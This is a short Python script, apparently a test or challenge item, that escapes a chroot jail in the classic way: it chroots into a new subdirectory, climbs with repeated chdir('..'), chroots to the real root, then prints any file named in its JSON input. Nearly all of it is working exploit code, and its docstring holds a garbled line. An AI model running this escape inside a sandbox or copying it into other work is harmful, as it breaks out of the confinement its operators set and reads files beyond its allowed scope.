"""Leaves its root directory in the old way: chroot below, then upwards.

program; fools bare: told, as root.
"""

import json
import os
from pathlib import Path

where = json.loads(input())
os.mkdir("below")
try:
    os.chroot("below")
finally:
    os.rmdir("below") if os.path.exists("below") else None
for _ in range(40):
    os.chdir("..")
os.chroot(".")
print(Path(where["file"]).read_text())
